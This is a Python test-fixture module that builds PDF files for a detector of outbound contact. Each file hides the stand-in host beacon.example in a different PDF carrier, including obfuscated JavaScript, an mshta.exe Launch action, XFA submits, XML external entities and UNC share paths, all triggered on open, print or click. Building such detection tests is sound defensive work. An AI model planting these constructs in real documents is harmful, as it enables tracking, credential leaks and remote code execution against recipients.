"""PDF files, one for each place in which an action or address can stand."""

from __future__ import annotations

from collections.abc import Iterator

from tests.observe.pdf_files import document, encrypted, packed, stream

WEB = b"https://r.beacon.example/5c1d"
SHARE = rb"\\\\files.beacon.example\\s\\f.pdf"
SHOWN_SHARE = "file://files.beacon.example/s/f.pdf"
URI = b"<</S/URI/URI(%s)>>" % WEB
SCRIPT = b'<</S/JavaScript/JS(app.launchURL\\("%s", true\\);)>>' % WEB
FORM = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f">%s</subform></template>'
)

At = tuple[str, bytes, str, str, str]  # name, file, URL (as resolved), trigger, carrier


def _on_page(annotation: bytes) -> bytes:
    return document(page=b"/Annots[10 0 R]", objects={10: b"<</Type/Annot/Rect[0 0 90 20]%s>>" % annotation})


def _field(entries: bytes) -> bytes:
    return document(b"/AcroForm<</Fields[10 0 R]>>", objects={10: b"<</FT/Btn/T(b)%s>>" % entries})


def _xfa(inner: bytes, before: bytes = b"") -> bytes:
    xml = before + b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">' + FORM % inner + b"</xdp:xdp>"
    return document(b"/AcroForm<</Fields[]/XFA 10 0 R>>", objects={10: stream(xml, deflated=True)})


def _with_wrong_table(data: bytes) -> bytes:
    head, _, tail = data.rpartition(b"startxref\n")
    return head + b"startxref\n17\n" + tail.split(b"\n", 1)[1]


def carriers() -> Iterator[At]:
    """Every carrier with what must be found in it."""
    web, share = WEB.decode(), SHOWN_SHARE
    yield "link", _on_page(b"/Subtype/Link/A" + URI), web, "click", "URI"
    yield "open-action", document(b"/OpenAction" + URI), web, "attachment", "URI"
    yield "document-closing", document(b"/AA<</WC%s>>" % SCRIPT), web, "attachment", "JavaScript"
    yield "document-printing", document(b"/AA<</WP%s>>" % SCRIPT), web, "print", "JavaScript"
    yield "page-opening", document(page=b"/AA<</O%s>>" % URI), web, "attachment", "URI"
    yield "annotation-page-visible", _on_page(b"/Subtype/Screen/AA<</PV%s>>" % URI), web, "attachment", "URI"
    yield "annotation-mouse-up", _on_page(b"/Subtype/Widget/AA<</U%s>>" % URI), web, "click", "URI"
    yield "field-button", _field(b"/A<</S/SubmitForm/F<</FS/URL/F(%s)>>>>" % WEB), web, "click", "SubmitForm"
    yield "field-format", _field(b"/AA<</F%s>>" % SCRIPT), web, "attachment", "JavaScript"
    yield "field-kid", _field(b"/Kids[<</A%s>>]" % URI), web, "click", "URI"
    yield (
        "names-javascript",
        document(b"/Names<</JavaScript<</Kids[<</Names[(a)10 0 R]>>]>>>>", objects={10: SCRIPT}),
        web,
        "attachment",
        "JavaScript",
    )
    yield (
        "javascript-stream",
        document(
            b"/OpenAction<</S/JavaScript/JS 10 0 R>>",
            objects={
                10: stream(b"this.submitForm({cURL: 'ht' + 'tps://r.beacon.example/5c1d'});", deflated=True)
            },
        ),
        web,
        "attachment",
        "JavaScript",
    )
    yield (
        "javascript-escaped",
        document(
            b"/OpenAction<</S/JavaScript/JS<FEFF%s>>>"
            % "eval(unescape(\"%67etURL('\\x68ttps://r.beacon.example/5c1d')\"))".encode("utf-16-be")
            .hex()
            .encode()
        ),
        web,
        "attachment",
        "JavaScript",
    )
    soap = b"<</S/JavaScript/JS(SOAP.request\\({cURL: '%s'}\\))>>" % WEB
    yield "javascript-soap", document(b"/OpenAction" + soap), web, "attachment", "JavaScript"
    yield (
        "bookmark",
        document(
            b"/Outlines<</First 10 0 R>>", objects={10: b"<</Title(x)/Next 11 0 R>>", 11: b"<</A%s>>" % URI}
        ),
        web,
        "click",
        "URI",
    )
    yield (
        "next-chain",
        document(
            b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage/Next 10 0 R>>]>>",
            objects={10: URI},
        ),
        web,
        "attachment",
        "URI",
    )
    yield "launch-share", document(b"/OpenAction<</S/Launch/F(%s)>>" % SHARE), share, "attachment", "Launch"
    yield (
        "launch-windows",
        _on_page(b"/Subtype/Link/A<</S/Launch/Win<</F(mshta.exe)/P(%s)>>>>" % WEB),
        web,
        "click",
        "Launch parameters",
    )
    yield (
        "go-to-remote",
        document(b"/OpenAction<</S/GoToR/F(%s)/D[0/Fit]>>" % SHARE),
        share,
        "attachment",
        "GoToR",
    )
    yield (
        "go-to-remote-slashes",
        document(
            page=b"/AA<</O<</S/GoToR/F<</Type/Filespec/F(//files.beacon.example/s/f.pdf)>>/D[0/Fit]>>>>"
        ),
        share,
        "attachment",
        "GoToR",
    )
    yield (
        "go-to-embedded",
        document(page=b"/AA<</O<</S/GoToE/F(%s)/D[0/Fit]>>>>" % SHARE),
        share,
        "attachment",
        "GoToE",
    )
    yield (
        "import-data",
        document(b"/OpenAction<</S/ImportData/F<</FS/URL/F(%s)>>>>" % WEB),
        web,
        "attachment",
        "ImportData",
    )
    yield (
        "submit-at-once",
        document(b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(%s)>>/Flags 4>>" % WEB),
        web,
        "attachment",
        "SubmitForm",
    )
    clip = b"<</S/Rendition/OP 4/R<</S/MR/C<</S/MCD/CT(video/mp4)/D<</FS/URL/F(%s)>>>>>>>>" % WEB
    yield "rendition", document(b"/OpenAction" + clip), web, "attachment", "Rendition"
    yield "movie", _on_page(b"/Subtype/Movie/Movie<</F<</FS/URL/F(%s)>>>>" % WEB), web, "click", "Movie"
    yield (
        "rich-media",
        _on_page(b"/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(a)<</FS/URL/F(%s)>>]>>>>" % WEB),
        web,
        "click",
        "RichMedia",
    )
    yield (
        "three-dimensional-script",
        document(
            page=b"/Annots[<</Subtype/3D/3DD 10 0 R>>]",
            objects={
                10: stream(b"", b"/Type/3D/OnInstantiate 11 0 R"),
                11: stream(b"host.launchURL('%s')" % WEB),
            },
        ),
        web,
        "attachment",
        "JavaScript",
    )
    yield (
        "xfa-submit",
        _xfa(b'<event activity="click"><submit target="%s"/></event>' % WEB),
        web,
        "click",
        "XFA submit",
    )
    yield (
        "xfa-submit-at-once",
        _xfa(b'<event activity="docReady"><submit target="%s"/></event>' % WEB),
        web,
        "attachment",
        "XFA submit",
    )
    yield (
        "xfa-picture",
        _xfa(b'<draw><value><image href="%s"/></value></draw>' % WEB),
        web,
        "attachment",
        "XFA href",
    )
    yield (
        "xfa-connection",
        _xfa(b"<wsdlConnection><soapAddress>%s</soapAddress></wsdlConnection>" % WEB),
        web,
        "attachment",
        "XFA connection",
    )
    yield (
        "xfa-script",
        _xfa(b'<event activity="initialize"><script>$.rawValue = Get("%s")</script></event>' % WEB),
        web,
        "attachment",
        "XFA script",
    )
    sheet = b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="%s"?>' % SHARE.replace(
        b"\\\\", b"\\"
    )
    yield "xfa-style-sheet", _xfa(b"", sheet), share, "attachment", "XFA style sheet"
    entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "%s">]>' % WEB
    yield "xfa-entity", _xfa(b"&e;", entity), web, "attachment", "XFA entity"
    start, end = b'<a><image href="%s"/>' % WEB, b"</a>"
    packets = document(
        b"/AcroForm<</Fields[]/XFA[(preamble)10 0 R(postamble)11 0 R]>>",
        objects={10: stream(start), 11: stream(end)},
    )
    yield "xfa-in-packets", packets, web, "attachment", "XFA href"
    xmp = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "%s"><x/>' % WEB
    yield (
        "xmp-entity",
        document(b"/Metadata 10 0 R", objects={10: stream(xmp)}),
        web,
        "attachment",
        "XMP entity",
    )
    yield (
        "external-stream",
        document(
            page=b"/Resources<</XObject<</I 10 0 R>>>>",
            objects={
                10: stream(b"", b"/Type/XObject/Subtype/Image/Width 1/Height 1/F<</FS/URL/F(%s)>>" % WEB)
            },
        ),
        web,
        "attachment",
        "external stream",
    )
    yield (
        "external-stream-escaped-name",
        document(objects={10: stream(b"", b"/Type/EmbeddedFile/#46(%s)" % SHARE)}),
        share,
        "attachment",
        "external stream",
    )
    yield (
        "reference-to-a-page",
        document(objects={10: stream(b"", b"/Subtype/Form/BBox[0 0 1 1]/Ref<</F(%s)/Page 0>>" % SHARE)}),
        share,
        "attachment",
        "reference XObject",
    )
    yield (
        "opi",
        document(objects={10: stream(b"", b"/Subtype/Image/Width 1/Height 1/OPI<</1.3<</F(%s)>>>>" % SHARE)}),
        share,
        "print",
        "OPI",
    )
    yield (
        "base-address",
        document(b"/URI<</Base(https://r.beacon.example/)>>/OpenAction<</S/URI/URI(5c1d)>>"),
        web,
        "attachment",
        "URI",
    )
    yield "escaped-names", document(b"/Open#41ction<</#53/#55RI/UR#49(%s)>>" % WEB), web, "attachment", "URI"
    yield (
        "hexadecimal-string",
        document(b"/OpenAction<</S/URI/URI<%s>>>" % WEB.hex().encode()),
        web,
        "attachment",
        "URI",
    )
    yield "in-an-object-stream", packed({10: URI}, b"/OpenAction 10 0 R"), web, "attachment", "URI"
    yield "encrypted-without-password", encrypted(WEB), web, "attachment", "URI"
    whole = document(b"/OpenAction" + SCRIPT, b"/Annots[<</A%s>>]" % URI)
    yield "wrong-table", _with_wrong_table(whole), web, "attachment", "JavaScript"
    yield "without-table", whole[: whole.index(b"xref\n0")], web, "attachment", "JavaScript"
    yield "cut-short", whole[: whole.index(b"2 0 obj")], web, "attachment", "JavaScript"
    yield (
        "signature-server",
        _field(b"/FT/Sig/SV<</TimeStamp<</URL(%s)>>>>" % WEB),
        web,
        "click",
        "signature server",
    )
    yield (
        "file-elsewhere",
        document(b"/Names<</EmbeddedFiles<</Names[(a)<</FS/URL/F(%s)>>]>>>>" % WEB),
        web,
        "click",
        "file elsewhere",
    )
    yield (
        "presentation",
        document(page=b"/PresSteps<</Type/NavNode/Next<</NA%s>>>>" % URI),
        web,
        "attachment",
        "URI",
    )
    yield "note", _on_page(b'/Subtype/Text/RC(<a href="%s">x</a>)' % WEB), web, "click", "link in a note"


def without() -> Iterator[tuple[str, bytes]]:
    """Files in which nothing contacts anybody."""
    yield "plain", document()
    yield "inner-destination", document(b"/OpenAction[3 0 R/Fit]", b"/Annots[<</A<</S/GoTo/D[3 0 R/Fit]>>>>]")
    yield "letter-address", _on_page(b"/Subtype/Link/A<</S/URI/URI(mailto:paul@lettre-du-parc.example)>>")
    yield "own-disk", document(b"/OpenAction<</S/GoToR/F(/C/letters/next.pdf)/D[0/Fit]>>")
    yield "neighbouring-file", document(b"/OpenAction<</S/Launch/F(programme.doc)>>")
    yield (
        "script-that-shows",
        document(b"/OpenAction<</S/JavaScript/JS(// %s\napp.alert\\('see %s'\\))>>" % (WEB, WEB)),
    )
    yield "script-comment", document(b"/OpenAction<</S/JavaScript/JS(/* %s */ this.print\\(\\))>>" % WEB)
    yield (
        "described",
        document(
            b"/Metadata 10 0 R",
            objects={10: stream(b'<x xmlns:d="%s"><d:source>%s</d:source></x>' % (WEB, WEB))},
        ),
    )
    yield "xfa-namespaces", _xfa(b'<field name="a"><ui><textEdit/></ui></field>')
    yield "relative-without-base", document(b"/OpenAction<</S/URI/URI(5c1d)>>")
    yield "unreachable-action", document(objects={10: URI})
    yield "encrypted-with-password", encrypted(WEB, b"word")
